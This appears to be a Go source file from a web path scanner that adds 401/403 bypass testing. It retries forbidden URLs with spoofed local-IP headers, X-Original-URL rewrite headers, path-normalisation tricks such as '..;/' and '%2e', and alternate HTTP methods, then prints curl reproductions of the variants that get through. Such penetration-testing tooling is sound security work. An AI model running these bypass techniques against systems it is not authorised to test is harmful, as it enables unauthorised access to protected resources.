@@ -0,0 +1,347 @@
+package main
+
+import (
+	"fmt"
+	"net/url"
+	"sort"
+	"strings"
+)
+
+// ===========================================================================
+// 401/403 BYPASS TESTING
+// ===========================================================================
+
+// Headers that front-end proxies commonly trust to mark a request as local
+var bypassIPHeaders = []string{
+	"X-Forwarded-For", "X-Real-IP", "X-Originating-IP", "X-Remote-IP",
+	"X-Remote-Addr", "X-Client-IP", "X-Custom-IP-Authorization",
+}
+
+// Methods tried instead of the configured one - a <Limit GET> style rule
+// lets everything else through. Only safe methods by default; POST and
+// PATCH can change state on the target and need -bypass-methods.
+var (
+	bypassMethods       = []string{"HEAD", "OPTIONS"}
+	bypassUnsafeMethods = []string{"POST", "PATCH"}
+)
+
+// Bypass is a request variant that got a different status than the
+// original 401/403. Only a 2xx is a confirmed bypass; anything else (a 500,
+// a redirect somewhere new) is worth a look by hand.
+type Bypass struct {
+	Technique string
+	Method    string
+	URL       string
+	Headers   map[string]string // Every header needed to reproduce, besides Host/User-Agent
+	Status    int
+	Length    int
+	Location  string // Redirect target, for a 3xx
+	Confirmed bool   // Status was 2xx
+}
+
+type bypassAttempt struct {
+	Technique string
+	Method    string
+	URL       string
+	Headers   map[string]string
+	Rewrite   string // Header carrying the real path; the request goes to /
+}
+
+// bypassPathMutations rewrites a path the ways that commonly slip past an
+// ACL matched on the raw path but normalized by the backend.
+func bypassPathMutations(p string) map[string]string {
+	p = "/" + strings.Trim(p, "/")
+	dir, last := splitLastSegment(p)
+
+	mutations := map[string]string{
+		"dot segment (/%2e/)":     "/%2e" + p,
+		"dot segment (/./)":       "/." + p,
+		"semicolon (..;/)":        p + "..;/",
+		"semicolon prefix (/..;)": "/..;" + p,
+		"trailing slash":          p + "/",
+		"trailing /.":             p + "/.",
+		"trailing dot":            p + ".",
+		"trailing space (%20)":    p + "%20",
+		"leading double slash":    "/" + p,
+		"double slashes":          strings.ReplaceAll(p, "/", "//"),
+		"uppercase":               strings.ToUpper(p),
+	}
+	if last != "" {
+		toggled := strings.ToUpper(last[:1]) + last[1:]
+		if toggled == last {
+			toggled = strings.ToLower(last[:1]) + last[1:]
+		}
+		mutations["first letter case"] = dir + toggled
+	}
+
+	// Drop mutations that came out identical to the path (e.g. "/ADMIN" upper)
+	for technique, mutated := range mutations {
+		if mutated == p {
+			delete(mutations, technique)
+		}
+	}
+	return mutations
+}
+
+// splitLastSegment splits "/a/b" into "/a/" and "b"
+func splitLastSegment(p string) (string, string) {
+	i := strings.LastIndex(p, "/")
+	return p[:i+1], p[i+1:]
+}
+
+// buildBypassAttempts lists every variant to try for a protected path
+func (s *Scanner) buildBypassAttempts(result *ScanResult) []bypassAttempt {
+	base, err := url.Parse(result.OriginalURL)
+	if err != nil {
+		return nil
+	}
+	origin := base.Scheme + "://" + base.Host
+	p := base.EscapedPath()
+	if base.RawQuery != "" {
+		p += "?" + base.RawQuery
+	}
+
+	var attempts []bypassAttempt
+
+	// The backend routes on the header, the proxy ACL only sees /
+	for _, header := range []string{"X-Original-URL", "X-Rewrite-URL"} {
+		attempts = append(attempts, bypassAttempt{
+			Technique: header + " header",
+			URL:       origin + "/",
+			Headers:   map[string]string{header: p},
+			Rewrite:   header,
+		})
+	}
+
+	for _, header := range bypassIPHeaders {
+		attempts = append(attempts, bypassAttempt{
+			Technique: header + ": 127.0.0.1",
+			URL:       result.OriginalURL,
+			Headers:   map[string]string{header: "127.0.0.1"},
+		})
+	}
+
+	mutations := bypassPathMutations(base.EscapedPath())
+	techniques := make([]string, 0, len(mutations))
+	for technique := range mutations {
+		techniques = append(techniques, technique)
+	}
+	sort.Strings(techniques)
+	for _, technique := range techniques {
+		mutated := origin + mutations[technique]
+		if base.RawQuery != "" {
+			mutated += "?" + base.RawQuery
+		}
+		attempts = append(attempts, bypassAttempt{Technique: "path: " + technique, URL: mutated})
+	}
+
+	methods := bypassMethods
+	if s.Config.BypassUnsafe {
+		methods = append(append([]string(nil), methods...), bypassUnsafeMethods...)
+	}
+	for _, method := range methods {
+		if strings.EqualFold(method, s.Config.Method) {
+			continue
+		}
+		attempts = append(attempts, bypassAttempt{Technique: "method " + method, Method: method, URL: result.OriginalURL})
+	}
+	return attempts
+}
+
+// rewriteBaselineHash sends a rewrite-header attempt's exact request without
+// the rewrite header, once per scan, so an attempt that just returns the
+// page at that URL (the host's home page, not the base path's) isn't taken
+// for a bypass.
+func (s *Scanner) rewriteBaselineHash(attempt bypassAttempt) string {
+	headers := make(map[string]string)
+	key := attempt.Method + " " + attempt.URL
+	for _, name := range sortedHeaderNames(attempt.Headers) {
+		if name != attempt.Rewrite {
+			headers[name] = attempt.Headers[name]
+			key += "\n" + name + ": " + attempt.Headers[name]
+		}
+	}
+
+	s.pathMutex.Lock()
+	hash, ok := s.bypassBaselines[key]
+	s.pathMutex.Unlock()
+	if ok {
+		return hash
+	}
+
+	baseline, err := s.fetchWithOptions(attempt.URL, requestOptions{
+		Method:   attempt.Method,
+		Headers:  headers,
+		NoFollow: true,
+	})
+	if err == nil {
+		hash = baseline.ContentHash
+	}
+	s.pathMutex.Lock()
+	s.bypassBaselines[key] = hash
+	s.pathMutex.Unlock()
+	return hash
+}
+
+// checkBypass retries a 401/403 result with header tricks, path mutations
+// and other methods, and records every variant whose status changed. A 2xx
+// is a confirmed bypass; redirects aren't followed, their Location is kept
+// instead. Catch-all responses are ruled out the same way as in ScanPath.
+func (s *Scanner) checkBypass(result *ScanResult) {
+	if result.FinalStatus != 401 && result.FinalStatus != 403 {
+		return
+	}
+
+	for _, attempt := range s.buildBypassAttempts(result) {
+		variant, err := s.fetchWithOptions(attempt.URL, requestOptions{
+			Method:   attempt.Method,
+			Headers:  attempt.Headers,
+			NoFollow: true,
+		})
+		if err != nil || variant.FinalStatus == result.FinalStatus {
+			continue
+		}
+		if s.IsWildcardResponse(variant) {
+			continue
+		}
+		if attempt.Rewrite != "" && variant.ContentHash == s.rewriteBaselineHash(attempt) {
+			continue
+		}
+
+		method := attempt.Method
+		if method == "" {
+			method = s.Config.Method
+		}
+		if method == "" {
+			method = "GET"
+		}
+		headers := make(map[string]string)
+		for key, value := range s.Config.CustomHeaders {
+			headers[key] = value
+		}
+		if s.Config.Cookie != "" {
+			headers["Cookie"] = s.Config.Cookie
+		}
+		for key, value := range attempt.Headers {
+			headers[key] = value
+		}
+
+		result.Bypasses = append(result.Bypasses, Bypass{
+			Technique: attempt.Technique,
+			Method:    method,
+			URL:       attempt.URL,
+			Headers:   headers,
+			Status:    variant.FinalStatus,
+			Length:    variant.ContentLength,
+			Location:  variant.header.Get("Location"),
+			Confirmed: variant.FinalStatus >= 200 && variant.FinalStatus < 300,
+		})
+	}
+
+	if len(result.Bypasses) > 0 {
+		s.Stats.mu.Lock()
+		s.Stats.Bypasses = append(s.Stats.Bypasses, result)
+		s.Stats.mu.Unlock()
+	}
+}
+
+// ReproductionRequest renders a bypass as the raw HTTP request that
+// triggered it
+func (b Bypass) ReproductionRequest() string {
+	u, err := url.Parse(b.URL)
+	if err != nil {
+		return b.Method + " " + b.URL
+	}
+
+	var sb strings.Builder
+	sb.WriteString(fmt.Sprintf("%s %s HTTP/1.1\n", b.Method, u.RequestURI()))
+	sb.WriteString(fmt.Sprintf("Host: %s\n", u.Host))
+	sb.WriteString(fmt.Sprintf("User-Agent: %s\n", UserAgent))
+	for _, name := range sortedHeaderNames(b.Headers) {
+		sb.WriteString(fmt.Sprintf("%s: %s\n", name, b.Headers[name]))
+	}
+	return sb.String()
+}
+
+// CurlCommand renders a bypass as a curl command line. --path-as-is keeps
+// curl from normalizing away the dot segments the bypass relies on.
+func (b Bypass) CurlCommand() string {
+	parts := []string{"curl", "-i", "--path-as-is"}
+	if b.Method == "HEAD" {
+		parts = append(parts, "-I")
+	} else if b.Method != "GET" {
+		parts = append(parts, "-X", b.Method)
+	}
+	for _, name := range sortedHeaderNames(b.Headers) {
+		parts = append(parts, "-H", shellQuote(name+": "+b.Headers[name]))
+	}
+	parts = append(parts, shellQuote(b.URL))
+	return strings.Join(parts, " ")
+}
+
+func sortedHeaderNames(headers map[string]string) []string {
+	names := make([]string, 0, len(headers))
+	for name := range headers {
+		names = append(names, name)
+	}
+	sort.Strings(names)
+	return names
+}
+
+func shellQuote(s string) string {
+	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
+}
+
+// ConfirmedBypasses returns the variants that got a 2xx
+func (r *ScanResult) ConfirmedBypasses() []Bypass {
+	var confirmed []Bypass
+	for _, b := range r.Bypasses {
+		if b.Confirmed {
+			confirmed = append(confirmed, b)
+		}
+	}
+	return confirmed
+}
+
+// bypassTag is the live view's marker for a protected path that was
+// bypassed, or that answered differently to some variant
+func bypassTag(result *ScanResult) string {
+	confirmed := result.ConfirmedBypasses()
+	switch {
+	case len(confirmed) == 1:
+		return "[!BYPASS " + confirmed[0].Technique + "]"
+	case len(confirmed) > 1:
+		return fmt.Sprintf("[!BYPASS %s +%d]", confirmed[0].Technique, len(confirmed)-1)
+	case len(result.Bypasses) > 0:
+		return fmt.Sprintf("[%d status changes]", len(result.Bypasses))
+	}
+	return ""
+}
+
+// formatBypasses joins bypass techniques for CSV export, confirmed ones
+// marked with "!"
+func formatBypasses(bypasses []Bypass) string {
+	parts := make([]string, len(bypasses))
+	for i, b := range bypasses {
+		mark := ""
+		if b.Confirmed {
+			mark = "!"
+		}
+		parts[i] = fmt.Sprintf("%s%s (%d)", mark, b.Technique, b.Status)
+	}
+	return strings.Join(parts, "; ")
+}
+
+// SortedBypasses returns protected results with at least one status change,
+// by path
+func (s *Scanner) SortedBypasses() []*ScanResult {
+	s.Stats.mu.Lock()
+	sorted := make([]*ScanResult, len(s.Stats.Bypasses))
+	copy(sorted, s.Stats.Bypasses)
+	s.Stats.mu.Unlock()
+
+	sort.Slice(sorted, func(i, j int) bool {
+		return sorted[i].OriginalPath < sorted[j].OriginalPath
+	})
+	return sorted
+}